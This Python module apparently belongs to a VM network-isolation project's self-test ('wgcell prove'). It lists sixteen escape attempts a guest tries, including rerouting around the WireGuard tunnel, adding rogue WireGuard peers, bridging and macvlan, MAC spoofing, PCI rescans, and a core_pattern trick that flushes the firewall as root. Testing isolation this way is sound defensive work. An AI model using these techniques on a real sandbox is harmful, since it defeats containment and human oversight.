"""Ways out by the guest's own network stack: routes, sockets, devices, WireGuard itself.

They need a real guest with every wall down and every capability, in which the guest runner
(`wgcell.prove.runners.guest`) tries them. One guest tries all of them, so the order matters: those
that remove a route or the card come late. Each sends a mark by which a capture recognises it.
"""

from __future__ import annotations

import contextlib
import os
import signal
import socket
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from wgcell.guest.walls import Wall
from wgcell.prove.verdict import Verdict

__all__ = ["BYPASSES", "Bypass"]

Shell = Callable[[str], None]
Udp = Callable[..., None]
_MODULES = "/usr/lib/modules/wgcell-prove"
"""The image's modules for `wgcell prove`: a hostile root could bring them along."""
_GUEST_MAC = bytes.fromhex("027767000002")


@dataclass(frozen=True, slots=True)
class Bypass:
    """One way out. ``act`` gets a shell, and a function that sends datagrams.

    ``alone``: the walls of the guest each of which must stop it with the others down.
    """

    name: str
    does: str
    mark: bytes
    act: Callable[[Shell, Udp], None]
    alone: frozenset[Wall]

    @property
    def verdict(self) -> Verdict:
        """Each must end the cell."""
        return Verdict.KILL

    @property
    def group(self) -> str:
        """The report's group."""
        return "bypass"


def _route(shell: Shell, udp: Udp) -> None:
    shell("ip route replace 203.0.113.7/32 via 192.168.64.1 dev eth0")
    udp("203.0.113.7", 9, b"wgcell-mark-route")


def _default_route(shell: Shell, udp: Udp) -> None:
    shell("ip route del 0.0.0.0/0 dev wg0")
    shell("ip route add default via 192.168.64.1 dev eth0")
    udp("192.0.2.10", 53, b"wgcell-mark-default")


def _bind(shell: Shell, udp: Udp) -> None:
    shell("ip route add 203.0.113.8/32 dev eth0 metric 9999")
    udp("203.0.113.8", 9, b"wgcell-mark-bind", device="eth0")


def _on_link(shell: Shell, udp: Udp) -> None:
    udp("192.168.64.1", 53, b"wgcell-mark-link")


def _wg_repointed(shell: Shell, udp: Udp) -> None:
    shell("ip route replace 203.0.113.9/32 via 192.168.64.1 dev eth0")
    shell('wg set wg0 peer "$(wg show wg0 peers)" endpoint 203.0.113.9:51820')
    udp("10.99.0.1", 9, b"anything")


def _wg_port(shell: Shell, udp: Udp) -> None:
    shell("wg set wg0 listen-port 40404")
    udp("10.99.0.1", 9, b"anything")


def _second_wg(shell: Shell, udp: Udp) -> None:
    shell("ip link add wg9 type wireguard")
    shell("ip addr add 10.98.0.2/24 dev wg9")
    shell("wg genkey > /tmp/k")
    shell(
        "wg set wg9 private-key /tmp/k listen-port 40405 peer "
        "3p7bfXt9wbTTW2HC7OQ1Nz+DQ8hbeGdNrfx+FG+IK08= endpoint 192.168.64.1:51820 "
        "allowed-ips 10.98.0.0/24"
    )
    shell("ip link set wg9 up")
    udp("10.98.0.1", 9, b"anything")


def _modules(shell: Shell, *names: str) -> None:
    for name in names:
        shell(f"busybox insmod {_MODULES}/{name}.ko")


def _bridged(shell: Shell, udp: Udp) -> None:
    _modules(shell, "llc", "stp", "bridge")
    # A card has one master: the macvlan of another case is removed.
    shell("ip link del mv0 || true; ip link add br0 type bridge")
    shell("ip link set br0 address 02:77:67:00:00:55")
    shell("ip addr flush dev eth0; ip link set eth0 master br0")
    shell("ip addr add 192.168.64.2/30 dev br0 && ip link set br0 arp off up")
    shell("ip neigh replace 192.168.64.1 lladdr 02:77:67:00:00:01 nud permanent dev br0; sleep 1")
    udp("192.168.64.1", 51820, b"wgcell-mark-bridge", device="br0")
    shell("sleep 1; ip link del br0; ip addr add 192.168.64.2/30 dev eth0")


def _macvlan(shell: Shell, udp: Udp) -> None:
    _modules(shell, "macvlan")
    shell("ip link add mv0 link eth0 address 02:77:67:00:00:56 type macvlan mode bridge")
    shell("ip addr add 192.168.65.2/30 dev mv0 && ip link set mv0 arp off up")
    shell("ip neigh replace 192.168.65.1 lladdr 02:77:67:00:00:01 nud permanent dev mv0; sleep 1")
    udp("192.168.65.1", 51820, b"wgcell-mark-macvlan", device="mv0")


def _second_card(shell: Shell, udp: Udp) -> None:
    # Every slot and bus is asked for a card; then each card sends, eth0 last.
    shell(
        "echo 1 > /sys/bus/pci/rescan; for slot in /sys/bus/pci/slots/*/power; do "
        "[ -e $slot ] && echo 1 > $slot; done; true"
    )
    names = [card.name for card in Path("/sys/class/net").iterdir()]
    cards = [name for name in names if name not in ("lo", "eth0", "wg0")]
    for card in (*cards, "eth0"):
        # A device without Ethernet frames, such as the WireGuard of another case, is skipped.
        with contextlib.suppress(OSError), socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
            shell(f"ip link set {card} up")
            raw.bind((card, 0x88B5))
            raw.send(b"\xff" * 6 + _GUEST_MAC + b"\x88\xb5wgcell-mark-card" + bytes(40))


def _core_pattern(shell: Shell, udp: Udp) -> None:
    """The kernel starts a crash helper as root of the first namespaces."""
    helper = Path("/work/helper")
    helper.write_text(
        "#!/bin/sh\nexport PATH=/bin\nnft flush ruleset\n"
        "ip route replace 203.0.113.12/32 via 192.168.64.1 dev eth0\nping -c 1 203.0.113.12\n"
    )
    helper.chmod(0o755)
    Path("/proc/sys/kernel/core_pattern").write_text("|/newroot/work/helper")
    child = os.fork()
    if child == 0:
        os.kill(os.getpid(), signal.SIGSEGV)
    os.waitpid(child, 0)
    shell("sleep 2")


def _arp_on(shell: Shell, udp: Udp) -> None:
    shell("ip neigh flush all; ip link set eth0 arp on")
    shell("ip addr replace 192.168.64.2/24 dev eth0")
    udp("192.168.64.77", 9, b"anything")


def _ipv6_on(shell: Shell, udp: Udp) -> None:
    shell("echo 0 > /proc/sys/net/ipv6/conf/eth0/disable_ipv6")
    shell("ip link set eth0 down; ip link set eth0 up; sleep 3")


def _mac(shell: Shell, udp: Udp) -> None:
    shell("ip link set eth0 down")
    shell("ip link set eth0 address 02:77:67:00:00:99")
    shell("ip link set eth0 up")
    shell("ip neigh replace 192.168.64.1 lladdr 02:77:67:00:00:01 nud permanent dev eth0")
    udp("192.168.64.1", 51820, b"wgcell-mark-mac")


def _moved(shell: Shell, udp: Udp) -> None:
    shell("ip netns add out && ip link set eth0 netns out")
    inside = "ip netns exec out"
    shell(f"{inside} ip addr add 192.168.64.2/24 dev eth0")
    shell(f"{inside} ip link set eth0 arp off up")
    shell(f"{inside} ip route add default via 192.168.64.1 dev eth0")
    code = "import socket as s;s.socket(2,2).sendto(b'wgcell-mark-moved',('203.0.113.7',9))"
    shell(f'{inside} python3 -c "{code}"')


def _rebound(shell: Shell, udp: Udp) -> None:
    shell(
        "d=$(basename $(readlink /sys/class/net/eth0/device)); "
        "echo $d > /sys/bus/virtio/drivers/virtio_net/unbind; "
        "echo 1 > /sys/bus/pci/rescan; "
        "echo $d > /sys/bus/virtio/drivers/virtio_net/bind; sleep 1; "
        "ip addr add 192.168.64.2/24 dev eth0; ip link set eth0 up"
    )
    udp("192.168.64.78", 9, b"anything")


_ALL = frozenset(Wall)
# The firewall sees IP from the guest's own stack, and no card in another namespace.
_NOT_FIREWALL = _ALL - {Wall.FIREWALL}
# Any user may send to a neighbour on a card of the same namespace.
_NOT_PRIVILEGES = _ALL - {Wall.PRIVILEGES}
# A process that may set wg0 up may change its port, and wg0's socket is in the card's namespace.
_NOT_NAMESPACE = _ALL - {Wall.NAMESPACE}
_ONLY_PRIVILEGES = frozenset({Wall.PRIVILEGES})

BYPASSES: tuple[Bypass, ...] = (
    Bypass("route-eth0", "routes one address over the card", b"wgcell-mark-route", _route, _ALL),
    Bypass("bindtodevice", "binds a socket to the card (SO_BINDTODEVICE)", b"wgcell-mark-bind", _bind, _ALL),
    Bypass("gateway-dns", "asks the link's gateway for a name", b"wgcell-mark-link", _on_link, _NOT_PRIVILEGES),
    Bypass("wg-repointed", "points its WireGuard at another host", bytes([203, 0, 113, 9]), _wg_repointed, _ALL),
    Bypass("wg-port", "moves its WireGuard to another port", bytes.fromhex("9dd4ca6c"), _wg_port, _NOT_NAMESPACE),
    Bypass("wg-second", "starts a WireGuard of its own", bytes.fromhex("9dd5ca6c"), _second_wg, _ALL),
    Bypass("default-eth0", "moves the default route to the card", b"wgcell-mark-default", _default_route, _ALL),
    Bypass("second-card", "asks every PCI slot for another card, and sends from each there is", b"wgcell-mark-card", _second_card, _NOT_FIREWALL),
    Bypass("macvlan", "puts a macvlan onto the card", b"wgcell-mark-macvlan", _macvlan, _ALL),
    Bypass("core-pattern", "has the kernel start a helper in the first namespaces", bytes([203, 0, 113, 12]), _core_pattern, _ONLY_PRIVILEGES),
    Bypass("arp-on", "turns ARP on", _GUEST_MAC + b"\x08\x06", _arp_on, _NOT_FIREWALL),
    Bypass("ipv6-on", "turns IPv6 on", _GUEST_MAC + b"\x86\xdd", _ipv6_on, _NOT_FIREWALL),
    Bypass("bridged", "makes the card a port of a bridge", b"wgcell-mark-bridge", _bridged, _ALL),
    Bypass("mac-changed", "changes its MAC address", b"wgcell-mark-mac", _mac, _ALL),
    Bypass("driver-rebound", "unbinds the driver, rescans PCI, binds it again", _GUEST_MAC + b"\x08\x06", _rebound, _NOT_FIREWALL),
    Bypass("card-moved", "moves the card into a namespace of its own", b"wgcell-mark-moved", _moved, _NOT_FIREWALL),
)  # fmt: skip
